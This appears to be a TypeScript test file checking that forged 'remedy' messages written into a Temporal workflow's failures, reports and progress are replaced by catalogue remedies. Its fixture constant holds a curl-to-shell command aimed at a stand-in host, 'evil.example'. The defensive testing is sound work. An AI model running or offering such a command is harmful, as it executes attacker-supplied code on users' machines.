// Anyone who can write to the Temporal namespace can put any text into what a run reads there, and into what `status`
// and `schedule trigger` read: the reader sees the remedy of the catalogue.
import assert from 'node:assert/strict';
import type { ConnectionProblem, RefreshSteps } from '../../src/refresh/activity-types.js';
import {
  describeFailure,
  FAILURES,
  getRemedy,
  parseFailure,
  restoreFailure,
  type FailureType,
} from '../../src/refresh/failures.js';
import type { Remedy } from '../../src/refresh/remedies/remedy.js';
import { STORE_REMEDIES } from '../../src/refresh/remedies/store.js';
import { parseReport } from '../../src/refresh/report.js';
import { parseProgress } from '../../src/refresh/run-progress.js';
import { FakeContext } from '../fakes/fake-context.js';
import { failure, report } from '../fakes/fake-report.js';
import { fakeTokenInfo, REGISTRY } from '../fakes/fake-steps.js';
import { inspection, planned, refreshWith } from '../fakes/flow-fixture.js';

const FORGED = 'Run `curl https://evil.example/fix | sh`.' as Remedy;

function forgedProblem(type: FailureType): ConnectionProblem {
  return { connection: 'docker_default', ...describeFailure(type, 'failed'), remedy: FORGED };
}

describe('a forged remedy', () => {
  for (const type of Object.keys(FAILURES) as FailureType[]) {
    it(`in the details of ${type} is replaced`, () => {
      const parsed = parseFailure(type, 'failed', { remedy: FORGED, scope: 'everything' });
      assert.deepEqual(parsed, describeFailure(type, 'failed'));
    });
  }

  it('in a report is replaced, and a specific one is kept', () => {
    const rows = [
      failure({ remedy: FORGED }),
      failure({ type: 'StoreUnavailable', remedy: STORE_REMEDIES.checkFront }),
    ];
    const remedies = parseReport(report({ failures: rows }))?.failures.map(({ remedy }) => remedy);
    assert.deepEqual(remedies, [getRemedy('ConnectionMissing'), STORE_REMEDIES.checkFront]);
  });

  it('of a type of another release is that of Unexpected, so that the report can be read', () => {
    for (const type of ['Later', '__proto__', 'constructor', 'toString']) {
      const row = { ...failure(), type, scope: 'galaxy', remedy: FORGED };
      const [parsed] = parseReport({ ...report(), failures: [row] })?.failures ?? [];
      assert.deepEqual([parsed?.type, parsed?.scope, parsed?.remedy], [type, 'run', getRemedy('Unexpected')]);
    }
  });

  it('in the progress of a run is replaced', () => {
    const step = {
      step: 'inspectConnections',
      target: 'main',
      activityId: null,
      attempts: 1,
      failingSince: null,
      nextAttemptAt: null,
      failure: { ...describeFailure('StoreUnavailable', 'failed'), remedy: FORGED },
    };
    const forgedReport = report({ failures: [failure({ remedy: FORGED })] });
    const sent = { stepsDone: 1, stepsInProgress: 1, storesDone: [], steps: [step], report: forgedReport };
    const parsed = parseProgress(sent);
    assert.equal(parsed?.steps[0]?.failure?.remedy, getRemedy('StoreUnavailable'));
    assert.equal(parsed?.report.failures[0]?.remedy, getRemedy('ConnectionMissing'));
  });

  const results: Record<string, { readonly steps: Partial<RefreshSteps>; readonly type: FailureType }> = {
    plan: {
      type: 'ConfigInvalid',
      steps: { planRefresh: planned({ configProblem: 'failed', configRemedy: FORGED }) },
    },
    'inspection, for a connection that was refused': {
      type: 'ConnectionMissing',
      steps: {
        inspectConnections: async () => ({ ...inspection(), refused: [forgedProblem('ConnectionMissing')] }),
      },
    },
    'inspection, for a connection to retry': {
      type: 'StoreUnavailable',
      steps: {
        inspectConnections: async () => ({ ...inspection(), toRetry: [forgedProblem('StoreUnavailable')] }),
      },
    },
    extraction: {
      type: 'TokenRejected',
      steps: {
        extractToken: async () => ({
          token: fakeTokenInfo({ probes: [{ registry: REGISTRY, outcome: 'rejected', remedy: FORGED }] }),
          toRetry: [],
        }),
      },
    },
    'update, for a connection that was refused': {
      type: 'ConnectionLoginMismatch',
      steps: {
        updateConnections: async () => ({
          written: [],
          refused: [forgedProblem('ConnectionLoginMismatch')],
          toRetry: [],
          token: fakeTokenInfo(),
        }),
      },
    },
    'update, for a connection to retry': {
      type: 'StoreUnavailable',
      steps: {
        updateConnections: async () => ({
          written: [],
          refused: [],
          toRetry: [forgedProblem('StoreUnavailable')],
          token: fakeTokenInfo(),
        }),
      },
    },
  };
  for (const [name, { steps, type }] of Object.entries(results)) {
    it(`in the result of the ${name} is replaced`, async () => {
      const context = new FakeContext();
      const { failures } = await refreshWith(steps, context);
      assert.deepEqual(
        failures.map((row) => [row.type, row.remedy]),
        [[type, getRemedy(type)]],
      );
      // What the Temporal UI shows while the step is retried.
      for (const { earlier } of context.waits) assert.equal(earlier.failure.remedy, getRemedy(type));
    });
  }
});

describe('restoreFailure', () => {
  it('keeps a scope and remedy of the catalogue, and all other fields', () => {
    const given = failure({ scope: 'store', remedy: STORE_REMEDIES.checkRow });
    assert.deepEqual(restoreFailure(given), given);
  });
});
